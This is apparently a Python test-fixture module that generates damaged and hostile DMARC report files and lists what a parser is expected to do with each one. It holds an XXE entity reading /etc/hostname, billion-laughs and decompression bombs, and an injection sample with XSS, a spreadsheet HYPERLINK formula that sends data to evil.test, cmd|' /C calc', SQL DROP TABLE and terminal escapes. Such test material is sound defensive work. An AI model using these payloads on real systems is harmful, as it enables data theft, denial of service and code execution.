"""The damaged and hostile small inputs of samples/damaged/, and what has to become of each."""

import bz2
import gzip
import io
import struct
import zlib
from xml.sax.saxutils import escape

import model
import render

STORED, REJECTED, NOT = "stored", "rejected", "not_a_report"


class Odd:
    """A report of odd.example that is stored with warnings: what counts is kept here by hand."""

    def __init__(self, reporter, day, rows, month=10):
        self.reporter, self.day, self.rows = reporter, day, rows     # rows: (ip | None, messages, passed)
        self.number = month

    def month(self):
        return "2026-%02d" % self.number


def record(ip, count, disposition="none", dkim="fail", spf="fail", header_from="odd.example", extra="",
           auth=None):
    auth = auth if auth is not None else \
        "<spf><domain>%s</domain><scope>mfrom</scope><result>%s</result></spf>" % (header_from, spf)
    return ("  <record>\n    <row><source_ip>%s</source_ip><count>%s</count>\n"
            "      <policy_evaluated><disposition>%s</disposition><dkim>%s</dkim><spf>%s</spf>%s"
            "</policy_evaluated></row>\n"
            "    <identifiers><envelope_from>%s</envelope_from><header_from>%s</header_from></identifiers>\n"
            "    <auth_results>%s</auth_results>\n  </record>\n"
            % (ip, count, disposition, dkim, spf, extra, header_from, header_from, auth))


POLICY = ("  <policy_published><domain>odd.example</domain><adkim>r</adkim><aspf>r</aspf><p>none</p>"
          "<sp>none</sp><pct>100</pct></policy_published>\n")


def feedback(name, records, day=5, policy=POLICY, org=None, rid=None, email=None, begin=None, end=None,
             decl='<?xml version="1.0" encoding="UTF-8"?>\n', month=10):
    b = model.epoch(2026, month, day)
    org = name + ".example" if org is None else org
    email = "reports@%s.example" % name if email is None else email
    rid = name + "-2026-%02d-%02d" % (month, day) if rid is None else rid
    head = ("%s<feedback>\n  <version>1.0</version>\n  <report_metadata>\n%s    <email>%s</email>\n%s"
            "    <date_range><begin>%s</begin><end>%s</end></date_range>\n  </report_metadata>\n"
            % (decl, "    <org_name>%s</org_name>\n" % org if org else "", email,
               "    <report_id>%s</report_id>\n" % rid if rid else "",
               begin or b, end or b + model.DAY - 1))
    return head + policy + "".join(records) + "</feedback>\n"


GOOD = record("192.0.2.33", 4, dkim="pass", spf="pass", header_from="odd.example")


def simple(name, day=5, **kw):
    """A plain report with one record of 4 messages, to be damaged."""
    return feedback(name, [GOOD], day, **kw).encode()


def odd(name, day=5, rows=None, reporter=None, month=10):
    return Odd(reporter or name + ".example", day, rows or [("192.0.2.33", 4, True)], month)


# --- what mail systems and programs put around a report: of June, so that the story stays as it is ---------------

def june(name, records=None):
    return feedback(name, records or [GOOD], month=6).encode()


def june_odd(name, rows=None):
    return odd(name, rows=rows, month=6)


def letter(name, words="A report is attached.\n", cte="base64", logo=None, data=None):
    """A mail with this report, LF."""
    gz = render.gz(june(name)) if data is None else data
    parts = ["Content-Type: text/plain\n\n" + words]
    if logo:
        parts.append("Content-Type: image/svg+xml\nContent-Disposition: attachment\n\n" + logo)
    parts.append("Content-Type: application/gzip\nContent-Transfer-Encoding: %s\n"
                 "Content-Disposition: attachment; filename=report.xml.gz\n\n%s" % (cte, render.b64(gz, "\n")))
    return ("Return-Path: <reports@%s.example>\nFrom: reports@%s.example\nTo: rua@odd.example\n"
            "Subject: Report Domain: odd.example\nMIME-Version: 1.0\n"
            'Content-Type: multipart/mixed; boundary="b"\n\n' % (name, name) +
            "".join("--b\n%s\n" % p for p in parts) + "--b--\n").encode()


def bare_from_lines():
    """As Thunderbird writes it, behind a mark and an empty line; one separator lacks the empty line before it."""
    mails = [letter("from-one"), letter("from-two", "Dear all,\n\nFrom now on we report every day.\n"),
             letter("from-three", ">From here on, too.\n")]
    text = b"\xef\xbb\xbf\n" + b"From \n" + mails[0] + b"\nFrom \n" + mails[1] + b"From reports@from-three.example\n" + mails[2]
    return text.replace(b"\n", b"\r\n")


def emlx():
    mail = letter("emlx")
    return (b"%-10d\n" % len(mail)) + mail + (b'<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0"><dict>'
                                             b"<key>flags</key><integer>1</integer></dict></plist>\n")


def old_tar(name, data):
    """A tar as it was before there was a mark in it."""
    head = bytearray(512)
    for at, text in ((0, name), (100, b"0000644"), (108, b"0000000"), (116, b"0000000"), (124, b"%011o" % len(data)),
                     (136, b"00000000000"), (148, b" " * 8)):
        head[at:at + len(text)] = text
    head[148:155] = b"%06o\0" % sum(head)
    return bytes(head) + data + bytes(-len(data) % 512 + 1024)


def zips_wide(width, depth):
    data, name = b"leaf", "leaf.txt"
    for _ in range(depth):
        data, name = render.zipped(*[("%d-%s" % (i, name), data) for i in range(width)]), "level.zip"
    return data


def read_otherwise():
    """(name, bytes, outcomes, Odds, purpose): what looks like nothing, or like one thing and is several."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = raw.compress(june("deflated")) + raw.flush()
    blanks = june("blanks").replace(b"?>\n", b"?>" + b" \n" * 200000, 1)
    two_rows = june("two-rows").replace(
        b"</row>", b"</row><row><source_ip>192.0.2.34</source_ip><count>3</count></row>", 1)
    wrapper = june("wrapper").replace(b"  <record>", b"<records>  <record>").replace(b"</feedback>", b"</records></feedback>")
    svg = '<svg xmlns="http://www.w3.org/2000/svg"/>\n'
    broken = render.gz(june("broken")).decode("utf-8", "replace").encode()
    return [
        ("bare-from-lines.mbox", bare_from_lines(), [STORED] * 3,
         [june_odd(n) for n in ("from-one", "from-two", "from-three")],
         "three mails behind bare `From ` lines; words begin with `From `, too"),
        ("bom.eml", b"\xef\xbb\xbf" + letter("bom"), [STORED], [june_odd("bom")], "a mail behind a mark of byte order"),
        ("pop3.eml", b"+OK 1234 octets\r\n" + letter("pop3"), [STORED], [june_odd("pop3")],
         "a mail behind the word of a server"),
        ("apple.emlx", emlx(), [STORED], [june_odd("emlx")], "Apple's file: length, mail, property list"),
        ("utf-16.eml", letter("utf-16-mail").decode().encode("utf-16"), [STORED], [june_odd("utf-16-mail")],
         "a mail in UTF-16"),
        ("logo.eml", letter("logo", cte="base64;", logo=svg), [STORED], [june_odd("logo")],
         "an encoding that is none, and a logo in SVG"),
        ("base64.txt", b"The attachment:\n\n" + render.b64(render.gz(june("base64")), "\n").encode(), [STORED],
         [june_odd("base64")], "an attachment in base64, saved as text"),
        ("preamble.txt", b"words " * 400 + b"\n" + june("preamble"), [STORED], [june_odd("preamble")],
         "a report behind 2,400 characters of text"),
        ("crlf-first.xml.gz", b"\r\n" + render.gz(june("crlf-first")), [STORED], [june_odd("crlf-first")],
         "gzip behind a line end"),
        ("blanks.xml.gz", render.gz(blanks), [STORED], [june_odd("blanks")], "400,000 blanks behind the declaration"),
        ("two-rows.xml", two_rows, [STORED], [june_odd("two-rows", [("192.0.2.34", 7, True)])],
         "two rows in a record: added"),
        ("wrapper.xml", wrapper, [STORED], [june_odd("wrapper")], "records inside of an element that nobody knows"),
        ("broken-by-utf8.eml", letter("broken", data=broken), [REJECTED], [], "a gzip that went through a decoder of UTF-8"),
        ("no-first-byte.xml.gz", render.gz(june("first-byte"))[1:], [REJECTED], [], "gzip without its first byte"),
        ("deflate.bin", deflated, [REJECTED], [], "deflate without gzip around it: bytes that nobody knows"),
        ("old.tar", old_tar(b"report.xml", june("old-tar")), [REJECTED], [], "a tar as it was in 1979"),
        ("wide.zip", zips_wide(10, 5), [REJECTED], [], "zips five deep, ten in each: one word for all"),
    ] + read_behind()


def thousandfold():
    """70 MiB of an element that says nothing."""
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=out, mtime=0) as f:
        f.write(june("thousandfold").replace(b"</feedback>", b""))
        for _ in range(70):
            f.write(b"<x/>" * (1 << 18))
        f.write(b"</feedback>\n")
    return out.getvalue()


def read_behind():
    """The same of what stands behind something, or in something that is no container."""
    def gz(name):
        return render.gz(june(name))

    def zipped(name):
        return render.zipped((name + ".xml", june(name)))

    def both(*names):
        return [june_odd(name) for name in names]
    return [
        ("behind.xml.gz", gz("gzip-first") + b"\r\n" + gz("gzip-behind"), [STORED] * 2, both("gzip-first", "gzip-behind"),
         "a gzip behind a gzip, with a line end between"),
        ("members.xml.gz", gz("member-one") + gz("member-two"), [STORED] * 2, both("member-one", "member-two"),
         "two members of a gzip, a document in each"),
        ("zip-behind.xml.gz", gz("before-zip") + zipped("zip-behind"), [STORED] * 2, both("before-zip", "zip-behind"), "a zip behind a gzip"),
        ("behind.zip", zipped("zip-first") + june("xml-behind"), [STORED] * 2, both("zip-first", "xml-behind"), "a document behind a zip"),
        ("two.zip", zipped("zip-one") + zipped("zip-two"), [STORED] * 2, both("zip-one", "zip-two"), "a zip behind a zip"),
        ("gzip-behind.xml", june("before-gzip") + gz("lost"), [STORED, REJECTED], both("before-gzip"),
         "a gzip behind a document: the document is stored, the whole is kept"),
        ("base64-behind.xml", june("before-base64") + b"\n" + render.b64(gz("lost-too"), "\n").encode(), [STORED, REJECTED],
         both("before-base64"), "a gzip in base64 behind a document"),
        ("junk-behind.xml.gz", gz("before-junk") + bytes((n * n * 7 + n // 3) % 251 for n in range(900)), [STORED, REJECTED], both("before-junk"),
         "bytes of no kind behind a gzip, as many as a report may have"),
        ("two-mails.eml", letter("mail-one") + b"\n" + letter("mail-two"), [STORED] * 2, both("mail-one", "mail-two"),
         "a mail behind a mail: cat *.eml"),
        ("mac.eml", letter("mac").replace(b"\n", b"\r"), [STORED], both("mac"), "a mail with the line ends of old Macs"),
        ("escaped.txt", escape(june("escaped").decode()).encode(), [REJECTED], [],
         "a report whose brackets are escaped"),
        ("quoted.json", b'{"name": "r.xml.gz", "content": "' + render.b64(gz("quoted"), "").encode() + b'"}\n', [REJECTED], [],
         "a gzip in base64, in quotes"),
        ("thousandfold.xml.gz", thousandfold(), [REJECTED], [], "70 MiB of XML out of 70 kB"),
    ]


def flip_zip_crc(data):
    bad = struct.pack("<I", 0xDEADBEEF)
    out = bytearray(data)
    out[14:18] = bad
    central = data.index(b"PK\1\2")
    out[central + 16:central + 20] = bad
    return bytes(out)


def spaces_bomb():
    out = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", compresslevel=9, fileobj=out, mtime=0) as f:
        f.write(b'<?xml version="1.0"?>\n<feedback>')
        for _ in range(40):
            f.write(b" " * (1 << 20))
    return out.getvalue()


def nested_zip(depth):
    data, name = simple("nested"), "report.xml"
    for i in range(depth):
        data, name = render.zipped((name, data)), "level%d.zip" % i
    return data


def odd_records():
    return feedback("odd-records", [
        GOOD,
        record("108r.166.27.220", 3),
        record("", 2),
        record(" ::FFFF:192.0.2.44 ", 5),
        record("192.0.2.34", -5),
        record("192.0.2.35", "1,234"),
        record("192.0.2.36", 7, disposition="15", dkim="softfail", spf="none"),
        record("192.0.2.37", 2, disposition="None", dkim="Pass", spf="HardFail"),
        record("192.0.2.38", 1, extra="<reason>sampled_out</reason><reason><type/></reason>"),
        record("192.0.2.39", 6, auth=""),
        "  <record>\n    <row><source_ip/><count>0</count></row>\n  </record>\n",
        "  <record/>\n",
    ]).encode()


ODD_ROWS = [("192.0.2.33", 4, True), (None, 3, False), (None, 2, False), ("192.0.2.44", 5, False),
            ("192.0.2.34", 0, False), ("192.0.2.35", 0, False), ("192.0.2.36", 7, False),
            ("192.0.2.37", 2, True), ("192.0.2.38", 1, False), ("192.0.2.39", 6, False)]

INJECTION_ORG = '=HYPERLINK("http://evil.test/?"&A1)<script>alert(1)</script>\u009b31mred\u009b0m'


def injection():
    comment = ('"><img src=x onerror=alert(1)> </td></table><style>*{display:none}</style> '
               "\u009b2J\u202egnp.exe @SUM(1+1)*cmd|' /C calc'!A0 '; DROP TABLE report; -- %s%n ${x} {{7*7}}")
    reason = "<reason><type>local_policy</type><comment>%s</comment></reason>" % escape(comment)
    auth = ("<dkim><domain>odd.example</domain><selector>+1-1&quot;,&apos;&lt;b&gt;</selector><result>fail</result>"
            "<human_result>-2+3\tcmd|&#x9b;31m</human_result></dkim>"
            "<spf><domain>odd.example</domain><result>softfail</result></spf>")
    return feedback("injection", [record("192.0.2.33", 4, extra=reason, auth=auth),
                                  record("192.0.2.45&lt;b&gt;", 1)],
                    org=escape(INJECTION_ORG), rid=escape("@SUM(1+1)*cmd|'/C calc'!A0<i>"),
                    email=escape('"<svg onload=alert(1)>"@injection.example')).encode()


def two_domains():
    return feedback("no-policy-two", [record("192.0.2.33", 4), record("192.0.2.33", 4, header_from="other.test")],
                    policy="").encode()


LAUGHS = "".join('<!ENTITY l%d "%s">\n' % (i, ("&l%d;" % (i - 1)) * 10) for i in range(1, 10))


def conflict(report):
    """The same key as `report`, but its first record told as two: other content, the same sums."""
    first = report.records[0]
    a, b = (model.Record(first.ip, n, first.header_from, first.mail_from, first.spf, first.dkim)
            for n in (first.count // 2, first.count - first.count // 2))
    return render.xml(model.Report(report.style, report.reporter, report.domain, report.begin, report.end,
                                   report.report_id, [a, b] + report.records[1:]))


def files():
    """(name, bytes, outcome or a list of outcomes, Odd or a list of them or None, purpose)."""
    plain = simple
    xxe = plain("xxe").replace(b"<feedback>", b'<!DOCTYPE feedback [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
                               b"<feedback>", 1).replace(b"xxe.example", b"&x;", 1)
    laughs = plain("laughs").replace(b"<feedback>", ("<!DOCTYPE feedback [<!ENTITY l0 \"ha\">\n%s]>\n<feedback>"
                                                     % LAUGHS).encode(), 1).replace(b"laughs.example", b"&l9;", 1)
    whole_gz = render.gz(plain("gzip"))
    crc_gz = bytearray(render.gz(plain("gzip-crc")))
    crc_gz[-8] ^= 0xFF
    deep = plain("deep").replace(b"</feedback>", b"<x>" * 1000 + b"</x>" * 1000 + b"</feedback>")
    latin1 = simple("latin1", org="Caf\xe9 del Mar").decode().encode("latin-1")
    unescaped = feedback("unescaped", [GOOD], org="Salt & Pepper", email="<reports@unescaped.example>").encode()
    iso = feedback("odd-dates", [GOOD], begin="2026-10-05T00:00:00Z", end="1791244799000").encode()
    future = simple("future", begin="2145916800", end="2146003199")
    noname = feedback("no-names", [GOOD], org="", rid="").encode()
    return [
        ("cut.xml.gz", whole_gz[:len(whole_gz) // 2], REJECTED, None, "gzip cut in its data"),
        ("cut-trailer.xml.gz", render.gz(plain("cut-trailer"))[:-5], STORED, odd("cut-trailer"),
         "gzip cut in its trailer, the XML is whole"),
        ("wrong-crc.xml.gz", bytes(crc_gz), REJECTED, None, "gzip with a wrong checksum"),
        ("cut.zip", render.zipped(("report.xml", plain("zip")))[:-60], REJECTED, None, "zip without its directory"),
        ("wrong-crc.zip", flip_zip_crc(render.zipped(("report.xml", plain("zip-crc")))), REJECTED, None,
         "zip with a wrong checksum"),
        ("encrypted.zip", render.zip_encrypted(b"report.xml", plain("encrypted"), b"secret"), REJECTED, None,
         "zip with an encrypted member (the password is secret)"),
        ("nested-6-deep.zip", nested_zip(6), REJECTED, None, "zip in zip in zip, deeper than is followed"),
        ("report.7z", b"7z\xbc\xaf\x27\x1c\0\4" + bytes(24), REJECTED, None, "the head of a 7z archive"),
        ("report.xml.bz2", bz2.compress(plain("bzip2")), REJECTED, None, "bzip2 is no container we open"),
        ("unused.xml.gz", render.gz(b"unused"), NOT, None, "gzip that holds the word unused"),
        ("logo.xml.gz", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\10\6\0\0\0\x1f\x15\xc4\x89", NOT, None,
         "a picture under the name of a report"),
        ("cut-in-record.xml", plain("cut-record")[:-180], REJECTED, None, "ends inside a record"),
        ("no-last-bracket.xml", plain("no-last-bracket").rstrip()[:-1], STORED, odd("no-last-bracket"),
         "ends with </feedback, without the last bracket"),
        ("two-documents.xml", plain("two-documents") + june("second"), [STORED] * 2,
         [odd("two-documents"), june_odd("second")], "a second document behind the first: both are read"),
        ("wrong-root.xml", b'<?xml version="1.0"?>\n<rss version="2.0"><channel><title>News</title></channel></rss>\n',
         NOT, None, "XML, but a news feed"),
        ("external-entity.xml", xxe, REJECTED, None, "DOCTYPE with an external entity"),
        ("billion-laughs.xml", laughs, REJECTED, None, "DOCTYPE with entities that grow tenfold nine times"),
        ("deep.xml", deep, REJECTED, None, "a thousand elements inside each other"),
        ("bomb.xml.gz", spaces_bomb(), REJECTED, None, "40 MiB of blanks inside a <feedback> that never ends"),
        ("no-policy.xml", feedback("no-policy", [GOOD], policy="").encode(), STORED, odd("no-policy"),
         "no policy_published; every header_from is of odd.example, which is taken"),
        ("no-policy-two-domains.xml", two_domains(), REJECTED, None, "no policy_published, header_from of two domains"),
        ("no-names.xml", noname, STORED, odd("no-names"), "neither org_name nor report_id"),
        ("odd-records.xml", odd_records(), STORED, odd("odd-records", rows=ODD_ROWS),
         "bad addresses, counts and words, an empty record and a placeholder"),
        ("odd-dates.xml", iso, STORED, odd("odd-dates"), "begin as ISO text, end in milliseconds"),
        ("future.xml", future, REJECTED, None, "a report of the year 2038"),
        ("latin1.xml", latin1, STORED, odd("latin1", reporter="Caf\ufffd del Mar"),
         "declared UTF-8, one byte of Latin-1"),
        ("unescaped.xml", unescaped, STORED, odd("unescaped", reporter="Salt & Pepper"),
         "a bare & in org_name and <...> around the address"),
        ("utf-16.xml", simple("utf-16", decl='<?xml version="1.0" encoding="UTF-16"?>\n').decode().encode("utf-16-le")
         .join([b"\xff\xfe", b""]), STORED, odd("utf-16"), "UTF-16 with a mark of byte order"),
        ("injection.xml", injection(), STORED,
         odd("injection", rows=[("192.0.2.33", 4, False), (None, 1, False)], reporter="injection"),
         "markup, formulas, terminal escapes and SQL in every text"),
        ("raw.zlib", zlib.compress(plain("zlib")), STORED, odd("zlib"), "a bare zlib stream"),
    ] + read_otherwise()
